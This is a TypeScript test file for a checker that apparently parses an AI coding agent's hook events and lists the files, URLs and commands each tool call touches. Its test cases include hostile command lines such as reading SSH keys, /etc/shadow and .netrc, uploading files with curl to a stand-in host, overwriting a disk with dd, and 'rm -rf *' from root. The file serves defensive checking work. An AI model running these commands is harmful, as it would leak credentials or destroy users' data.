import { readdirSync, readFileSync } from "node:fs";
import path from "node:path";
import { describe, expect, test } from "vitest";
import { toAction } from "../../src/action/to-action.ts";
import { parseEvent } from "../../src/event/parse-event.ts";
import type { Action, Surface } from "../../src/model/action.ts";
import type { Machine } from "../../src/model/check.ts";
import { StageError } from "../../src/model/stage.ts";

const fixtures = path.join(import.meta.dirname, "../fixtures/events");

const machine: Machine = {
  home: "/home/dev",
  realPath: (file) => file,
  readText: (file) =>
    file === "/home/dev/project/f.txt" ? { text: "alpha", complete: true } : undefined,
};

function actionOf(event: object): Action {
  const whole = { cwd: "/home/dev/project", ...event };
  return toAction(parseEvent(Buffer.from(JSON.stringify(whole))), machine);
}

const callOf = (tool: string, input: object): Action =>
  actionOf({ hook_event_name: "PreToolUse", tool_name: tool, tool_input: input });

function show(surface: Surface): string {
  switch (surface.kind) {
    case "tool":
      return `tool ${surface.tool}`;
    case "command":
      return `command ${surface.invocation.words.map(({ value }) => value).join(" ")}`;
    case "path":
      return `${surface.access} ${surface.path}`;
    case "url":
      return `url ${surface.url}`;
    case "text":
      return `${surface.role} ${JSON.stringify(surface.text)} at ${surface.at.field}`;
  }
}

const shown = (action: Action): string[] => action.surfaces.map(show);

describe("every event that the client really sends becomes an action", () => {
  const refused = /raw-bash-command-(array|missing|number)/;
  const names = readdirSync(fixtures).filter((name) => name.endsWith(".json"));

  test.each(names.filter((name) => !refused.test(name)))("%s", (name) => {
    const event = parseEvent(readFileSync(path.join(fixtures, name)));
    const action = toAction(event, machine);
    expect(action.coverage).toEqual({ complete: true, gaps: [] });
    const isCall = /^(pretooluse|permissionrequest)/.test(name);
    expect(action.surfaces.some(({ kind }) => kind === "tool")).toBe(isCall);
  });

  test.each(names.filter((name) => refused.test(name)))("but %s, whose command is none", (name) => {
    const event = parseEvent(readFileSync(path.join(fixtures, name)));
    expect(() => toAction(event, machine)).toThrow(StageError);
  });
});

describe("what a tool's call would do", () => {
  test.each<[string, object, string[]]>([
    [
      "Write",
      { file_path: "./rel/../new.txt", content: "x" },
      ["tool Write", "write /home/dev/project/new.txt", 'written "x" at tool_input.content'],
    ],
    [
      "Edit",
      { file_path: "~/f", old_string: "a", new_string: "b" },
      ["tool Edit", "write /home/dev/f", 'written "b" at tool_input.new_string'],
    ],
    [
      "NotebookEdit",
      { notebook_path: "/n.ipynb", new_source: "p" },
      ["tool NotebookEdit", "write /n.ipynb", 'written "p" at tool_input.new_source'],
    ],
    [
      "Read",
      { file_path: "f.txt" },
      ["tool Read", "read /home/dev/project/f.txt", 'file "alpha" at tool_input.file_path'],
    ],
    ["Read", { file_path: "/proc/../etc//shadow" }, ["tool Read", "read /etc/shadow"]],
    [
      "Grep",
      { pattern: "key", path: "/etc", glob: "*.pem" },
      ["tool Grep", 'argument "key" at tool_input.pattern', "mention /etc", "mention /etc/*.pem"],
    ],
    [
      "WebFetch",
      { url: "https://example.com/", prompt: "go" },
      [
        "tool WebFetch",
        "url https://example.com/",
        'argument "https://example.com/" at tool_input.url',
        'argument "go" at tool_input.prompt',
      ],
    ],
    [
      "Agent",
      { description: "d", prompt: "do" },
      ["tool Agent", 'prompt "do" at tool_input.prompt'],
    ],
    ["Task", { description: "d", prompt: "do" }, ["tool Task", 'prompt "do" at tool_input.prompt']],
    ["Skill", { skill: "demo", args: "x" }, ["tool Skill", 'argument "x" at tool_input.args']],
    [
      "Monitor",
      { description: "d", ws: { url: "wss://x.example/" } },
      ["tool Monitor", "url wss://x.example/"],
    ],
    [
      "mcp__fs__read",
      { path: "~/.ssh/id_rsa" },
      [
        "tool mcp__fs__read",
        'argument "~/.ssh/id_rsa" at tool_input.path',
        "mention /home/dev/.ssh/id_rsa",
      ],
    ],
    [
      "Teleport",
      { to: ["moon", { via: "http://10.0.0.1/x" }] },
      [
        "tool Teleport",
        'argument "moon" at tool_input.to.0',
        'argument "http://10.0.0.1/x" at tool_input.to.1.via',
        "url http://10.0.0.1/x",
      ],
    ],
  ])("%s %j", (tool, input, expected) => expect(shown(callOf(tool, input))).toEqual(expected));

  test("a tool of any server that takes a command is read as one", () => {
    expect(shown(callOf("mcp__shell__run", { command: "rm -r x" }))).toContain("command rm -r x");
  });

  test("PowerShell is never wholly understood", () => {
    expect(callOf("PowerShell", { command: "ls" }).coverage.complete).toBe(false);
  });
});

describe("what a command line touches", () => {
  const touched = (command: string): string[] =>
    callOf("Bash", { command })
      .surfaces.filter(({ kind }) => kind === "path" || kind === "url")
      .map(show);

  test.each<[string, string[]]>([
    ["cat ~/.ssh/id_rsa", ["mention /home/dev/.ssh/id_rsa"]],
    ["rm -rf build", ["delete /home/dev/project/build"]],
    ["cp a /etc/b", ["read /home/dev/project/a", "write /etc/b"]],
    ["mv a b", ["delete /home/dev/project/a", "write /home/dev/project/b"]],
    ["tee /etc/x < in", ["write /etc/x", "read /home/dev/project/in"]],
    ["echo .env > out", ["write /home/dev/project/out"]],
    ["grep .env README.md", ["mention /home/dev/project/README.md"]],
    ["sed -i s/a/b/ f", ["write /home/dev/project/f"]],
    ["sed -n s/a/b/ f", ["mention /home/dev/project/f"]],
    ["dd if=/dev/zero of=/dev/sda", ["read /dev/zero", "write /dev/sda"]],
    [
      "curl -d @x.txt https://x.example/",
      ["mention /home/dev/project/x.txt", "url https://x.example/"],
    ],
    ["curl --upload-file=/etc/shadow", ["mention /etc/shadow"]],
    ["cat 'a note with .env in it'", []],
    ["ls -la .env", []],
    [
      "cd ~/.ssh && cat id_rsa",
      ["mention /home/dev/project/id_rsa", "mention /home/dev/.ssh/id_rsa"],
    ],
    ["cd / ; rm -rf *", ["delete /home/dev/project/*", "delete /*"]],
    ["cd; cat .netrc", ["mention /home/dev/project/.netrc", "mention /home/dev/.netrc"]],
  ])("%s", (command, expected) => expect(touched(command)).toEqual(expected));

  test("a line of many changes of directory stays bounded", () => {
    expect(touched(`${"cd a; ".repeat(500)}cat f`).length).toBeLessThanOrEqual(8);
  });
});

describe("other events", () => {
  test("an output is every string of it, each in its place", () => {
    const action = actionOf({
      hook_event_name: "PostToolUse",
      tool_name: "Read",
      tool_input: {},
      tool_response: { type: "text", file: { content: "abc" } },
    });
    expect(shown(action)).toEqual([
      'output "text" at tool_response.type',
      'output "abc" at tool_response.file.content',
    ]);
    expect(action.surfaces[1]).toMatchObject({ slot: ["tool_response", "file", "content"] });
  });

  test("a prompt is a prompt", () => {
    expect(shown(actionOf({ hook_event_name: "UserPromptSubmit", prompt: "go" }))).toEqual([
      'prompt "go" at prompt',
    ]);
  });

  test("a settings file about to apply is read", () => {
    expect(
      shown(actionOf({ hook_event_name: "ConfigChange", file_path: "/home/dev/project/f.txt" })),
    ).toEqual(['file "alpha" at file_path']);
  });

  test("an expansion, whose fields we do not know, is all its strings", () => {
    expect(
      shown(
        actionOf({ hook_event_name: "UserPromptExpansion", command: "evil", expanded: "text" }),
      ),
    ).toContain('argument "text" at expanded');
  });
});
